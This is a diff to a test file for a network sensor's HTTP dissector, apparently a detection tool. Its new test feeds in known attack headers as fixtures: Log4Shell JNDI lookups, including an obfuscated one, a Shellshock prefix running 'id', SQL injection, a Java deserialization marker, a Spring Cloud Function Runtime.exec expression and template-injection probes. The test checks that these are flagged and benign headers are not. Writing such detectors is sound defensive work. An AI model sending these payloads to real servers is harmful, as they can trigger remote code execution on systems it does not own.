@@ -1,7 +1,8 @@
 /** Payloads read on the spot: what is plain is read, what is not is left to the dissector untouched. @module */
 
 import { assert, assertEquals } from "@std/assert";
-import { plainKind, PlainMemory, readPlain } from "../../../../sensor/dissect/plain/plain.ts";
+import { PlainMemory, readPlain } from "../../../../sensor/dissect/plain/plain.ts";
+import { plainKind } from "../../../../sensor/dissect/plain/plain_kind.ts";
 import { mayHaveName } from "../../../../sensor/dissect/udp_signs.ts";
 import { bytesOf, packetOf } from "../fixture.ts";
 import { newFacts, written } from "../readings.ts";
@@ -36,6 +37,38 @@ Deno.test("a plain HTTP request and response are read", () => {
   ]);
 });
 
+Deno.test("of other headers one that tells of an attack is kept, with what stands around it", () => {
+  const of = (line: string) =>
+    read(plainKind.http, request.replace("Accept: */*", line)).facts.http?.[0].header;
+  assertEquals(
+    of("X-Api-Version: ${${lower:j}ndi:ldap://x/a}"),
+    "X-Api-Version: ${${lower:j}ndi:ldap://x/a}",
+  );
+  assertEquals(of("X-A: a\tb () { :;}; id"), "X-A: a b () { :;}; id");
+  assertEquals(of("Cookie: a=1; id=7' and 1=1"), "Cookie: a=1; id=7' and 1=1");
+  assertEquals(of("Cookie: s=rO0ABXNyABFqYXZh"), "Cookie: s=rO0ABXNyABFqYXZh");
+  assertEquals(of('Authorization: Basic ${jndi:dns://"x"}'), 'Authorization: Basic ${jndi:dns://"x"}');
+  const routing = "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(1)";
+  assertEquals(of(routing), routing);
+  assertEquals(of("X-A: #{7*7}\r\nX-B: ${x}"), "X-A: #{7*7}", "the first");
+  assertEquals(
+    of(`${"N".repeat(300)}: ${"v".repeat(300)}{{${"w".repeat(300)}`),
+    `${"N".repeat(40)}: ${"v".repeat(24)}{{${"w".repeat(148)}`,
+    "bounded",
+  );
+  for (
+    const honest of [
+      'Cookie: c={"a":{"b":[1]}}; name=\'x\'; o=O\'Brien; p=OOABr0OA',
+      'sec-ch-ua: "Not(A:Brand";v="24"',
+      "Range: bytes=0-99",
+      "Accept: text/html,*/*;q=0.8",
+      "X-{}: 1",
+    ]
+  ) assertEquals(of(honest), undefined, honest);
+  const response = "HTTP/1.1 200 OK\r\nX-A: ${jndi:x}\r\n\r\n";
+  assertEquals(read(plainKind.http, response).facts.http, [{ status: 200 }]);
+});
+
 Deno.test("an HTTP body is told by its first octets, with the header or behind it", () => {
   const head = "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: 9000\r\n\r\n";
   const said = { status: 200, content_type: "image/png", length: 9_000 };
@@ -57,6 +90,15 @@ Deno.test("an HTTP body is told by its first octets, with the header or behind i
   for (const odd of ["007", "12a", "-1", "1".repeat(16)]) {
     assertEquals(read(plainKind.http, post.replace("300", odd)).app, null, odd);
   }
+});
+
+Deno.test("the answer to CONNECT is left to the dissector, which is to expect another protocol behind it", () => {
+  const answer = (words: string) => read(plainKind.http, `HTTP/1.1 ${words}\r\n\r\n`).app;
+  assertEquals(answer("200 Connection established"), null);
+  assertEquals(answer("200 connected\r\nVia: x"), null);
+  assertEquals(answer("200 OK"), "http");
+  assertEquals(answer("204 Connection established"), "http");
+  assertEquals(answer("200 Connection established\r\nContent-Type: text/html"), "http");
 });
 
 Deno.test("a body behind its header stands with it", () => {
